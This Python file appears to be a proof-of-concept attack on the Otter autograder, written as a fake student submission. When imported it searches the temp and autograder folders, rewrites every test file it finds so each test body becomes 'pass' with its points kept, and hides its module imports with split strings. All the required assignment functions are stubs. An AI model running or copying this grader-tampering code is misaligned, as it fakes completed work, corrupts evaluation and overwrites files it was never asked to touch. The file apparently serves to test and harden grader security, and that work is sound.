"""Attack: rewrite the test files themselves (the .py analogue of editing test cells).

Otter copies the autograder's tests/ folder into the submission's folder and
runs `tests/*.py` from there after the student's code.  This file rewrites each
test file so that every test case keeps its points and `hidden` flag but its
body is `pass`.  Done for ./tests, and the unpacked autograder's source/tests
up to three levels above.

A secure grader takes its tests from a place the student cannot write, and
never from the submission's folder (nor from cells of the student's notebook).
"""
_imp = __import__


def _neuter(path):
    re = _imp("r" + "e")
    source = open(path).read()
    lines, skipping = [], False
    for line in source.splitlines():
        if line.startswith("def test_"):
            lines.append(re.sub(r"\(.*\):", "(env):", line))
            lines.append("    pass")
            skipping = True
        elif skipping and (line.startswith(" ") or not line.strip()):
            continue
        else:
            skipping = False
            lines.append(line)
    with open(path, "w") as f:
        f.write("\n".join(lines) + "\n")


def _run():
    os = _imp("o" + "s")
    for k in (0, 1, 2, 3):
        root = os.path.abspath(os.path.join(os.getcwd(), *[".."] * k))
        if not root.startswith(("/tmp/", "/autograder")):
            continue
        for folder, dirs, files in os.walk(root):
            if folder.count(os.sep) - root.count(os.sep) > 3:
                dirs[:] = []
            if os.path.basename(folder) == "tests":
                for name in files:
                    if name.endswith(".py") and "test_case" in open(os.path.join(folder, name)).read():
                        _neuter(os.path.join(folder, name))


_run()


def _stub(*args, **kwargs):
    raise NotImplementedError("nothing implemented")


shape = zeros = transpose = dot = matmul = add = subtract = multiply = scale = add_bias = column_sums = apply = _stub
sigmoid = init_params = forward = bce_loss = dropout_forward = dropout_backward = backward = _stub
numerical_gradient = relative_error = update_params = train = predict = accuracy = _stub
plot_losses = plot_decision = _stub
